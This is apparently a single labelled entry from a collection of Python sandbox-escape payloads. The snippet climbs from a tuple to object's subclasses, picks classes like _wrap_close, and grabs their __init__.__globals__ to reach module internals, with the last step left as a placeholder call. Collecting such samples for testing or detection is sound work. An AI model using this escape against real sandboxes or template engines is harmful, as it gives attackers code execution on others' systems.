# tries: every class of the process, from a tuple
# class: class chains
# bare: python
for c in ().__class__.__base__.__subclasses__():
    if c.__name__ in ("_wrap_close", "_Printer", "Quitter"):
        use(c.__init__.__globals__)
